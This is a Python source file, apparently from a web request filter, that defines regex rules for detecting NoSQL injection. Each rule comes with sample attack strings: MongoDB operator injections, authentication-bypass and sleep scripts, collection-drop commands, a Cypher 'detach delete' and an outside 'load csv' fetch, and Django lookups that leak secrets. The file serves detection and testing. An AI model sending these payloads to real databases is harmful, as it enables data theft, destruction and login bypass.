"""NoSQL injection (CWE-943): operators where a value or a key was expected, and scripts for the database.

Must never hold a row of somebody else's collection; every example was written for its rule.
"""

from __future__ import annotations

from typing import Final

from asgi_guard.inspection.rule import Rule

OPERATOR: Final = (
    r"\$(?:ne|gte?|lte?|n?in|regex|where|exists|n?or|and|not|expr|elemmatch|function|accumulator|lookup|jsonschema)"
)

RULES: Final[tuple[Rule, ...]] = (
    Rule(
        id="AG-NOSQL-001",
        attack="nosql",
        score=5,
        level=1,
        pattern=r"(?:^|\[|\.)['\"]?" + OPERATOR + r"['\"]?(?:\]|$)",
        needs=("$",),
        why="A query operator as the name of a parameter or a key.",
        positives=("user[$ne]", "$where", "filter[a][$in][]"),
        negatives=("price$", "$name", "$set", "$identify"),
        places=("name",),
    ),
    Rule(
        id="AG-NOSQL-002",
        attack="nosql",
        score=5,
        level=1,
        pattern=r"(?:[{,[]|^) ?['\"]?"
        + OPERATOR
        + r"['\"]? ?:|^[^'\"]{0,80}['\"][ })\],]{1,8}[{ ]{0,3}\$\w{2,16} ?:"
        + r"|^[^{]{0,48}\}[ )\]]{0,3},? ?\{ ?['\"]?[\w$]{1,32}['\"]? ?: ?(?:/|\{ ?['\"]?\$)",
        needs=("$", "{"),
        why="A query operator in a document that was sent as a text.",
        positives=(
            '{"$gt": "a"}',
            "{$ne: 0, a: 1}",
            "7, $where: 'age > 3'",
            "boss', $or: [{}, {'age': '7",
            "'}], $comment: 'a'",
            "}, {pw: /.*/}",
        ),
        negatives=("in ${where}: here", "costs $5: {a: 1}", '{"$set": 1}'),
        views=("sql",),
    ),
    Rule(
        id="AG-NOSQL-003",
        attack="nosql",
        score=5,
        level=1,
        pattern=r"""^[^'"]{0,80}['"] ?[)}\]]{0,3} ?(?:&&|\|\||;) ?(?:this\.\w|return(?:;| ?[\d'\"!({]| (?:true"""
        r"""|false|this|\w{1,16} ?[=!(.;]))|sleep ?\(|while ?\(|var \w{1,16} ?=|do ?\{|throw\b"""
        r"""|\w{1,16} ?= ?new date|db\.\w|!?function ?\(|emit ?\()""",
        needs=("'", '"'),
        why="The script in which a condition stands is ended, and goes on as the attacker likes.",
        positives=(
            "' && this.password.match(/.*/)//",
            "';return true;var x='",
            "boss';sleep(3000);",
            "';d=new Date();do{c=new Date();}while(c-d<9000);'",
        ),
        negatives=("return 'a'; then", "the parents'; return them", "'this'; 'that'"),
        views=("sql",),
    ),
    Rule(
        id="AG-NOSQL-004",
        attack="nosql",
        score=5,
        level=1,
        pattern=r"(?:^|[;'\"}] ?)db\.\w{1,32}\.(?:insert(?:one|many)?|find(?:one)?|drop|mapreduce|aggregate|remove"
        r"|update(?:one|many)?|delete(?:one|many)) ?\( ?[{\[]"
        r"|(?:^|[;'\"}] ?)db\.\w{1,32}\.drop ?\( ?\)|\bdb\.(?:getcollectionnames|listcollections|dropdatabase"
        r"|getusers|version|adminCommand) ?\(".lower()
        + r"|\bfunction ?\( ?\) ?\{[^}]{0,64}\b(?:emit ?\(|sleep ?\( ?\d|this\.\w{1,32} ?(?:[=!]=|\.match))",
        needs=("db.", "function"),
        why="Commands and scripts of a document database.",
        positives=(
            "db.users.insert({a:1});",
            "'; db.users.drop();",
            "function(){sleep(5000)}",
            "function() { return this.name == 'a' }",
        ),
        negatives=("db.session.remove()", "function(){return this}", "the db.users.find method"),
        views=("sql",),
    ),
    Rule(
        id="AG-NOSQL-005",
        attack="nosql",
        score=5,
        level=1,
        pattern=r"\bload csv (?:with headers )?from ['\"]|\bcall (?:(?:apoc|dbms)\.\w|db\.(?:labels|schema|indexes"
        r"|constraints|relationshiptypes|propertykeys)\b)|\bdetach delete \w{1,16}\b|\ballow filtering ?(?:;|--|\x00"
        r"|$)",
        needs=("load csv", "call ", "detach delete", "allow filtering"),
        why="Clauses of the query languages of graph and column databases.",
        positives=(
            "' or 1=1 detach delete n //",
            "load csv from 'http://x.example/'+n as l",
            "' allow filtering;",
            "1 call db.labels() yield label",
        ),
        negatives=("allow filtering by name", "call the db.", "to load csv from a file"),
        views=("sql",),
    ),
    Rule(
        id="AG-NOSQL-006",
        attack="nosql",
        score=5,
        level=2,
        pattern=r"(?:^|\[|\.)['\"]?\$(?:eq|all|size|mod|text|options|comment|natural|query|match|group|project"
        r"|unionwith|out|merge|facet)['\"]?(?:\]|$)",
        needs=("$",),
        why="An operator that some interfaces let their clients write.",
        positives=("filters[name][$eq]", "$match"),
        negatives=("$os", "$browser"),
        places=("name",),
    ),
    Rule(
        id="AG-NOSQL-007",
        attack="nosql",
        score=5,
        level=2,
        pattern=r"(?:^|__)(?:user|owner|author|created_by|account|profile)__\w{1,90}__i?(?:startswith|endswith|contains|regex)$"
        r"|(?:password|passwd|secret|token|api_?key)__i?(?:startswith|endswith|contains|regex|gte?|lte?)$",
        needs=("startswith", "endswith", "contains", "regex", "__gt", "__lt", "__igt", "__ilt"),
        why="A look-up of Django over other tables: who may name one finds out a secret letter by letter.",
        positives=("author__user__password__startswith", "user__profile__city__contains", "reset_token__regex"),
        negatives=("name__startswith", "user__name", "price__gte", "tokens__count"),
        places=("name",),
    ),
    Rule(
        id="AG-NOSQL-008",
        attack="nosql",
        score=5,
        level=1,
        pattern=r"(?:^[^(){}=;]{0,60}\d|['\"])\s?(?:\|\||&&)\s?['\"]?\s?(?:this|obj|db)\.[a-z]\w{0,40}",
        needs=("this.", "obj.", "db."),
        why="A field of the document in a condition that is added to the one of the application.",
        positives=("7||this.colour", "x'||this.pin=='", "1 && db.cards"),
        negatives=("this.colour", "a || b.this", "x = y || that.z", "if(a&&this.b)", "see this. Or that"),
        places=("query", "body", "path", "cookie"),
    ),
)
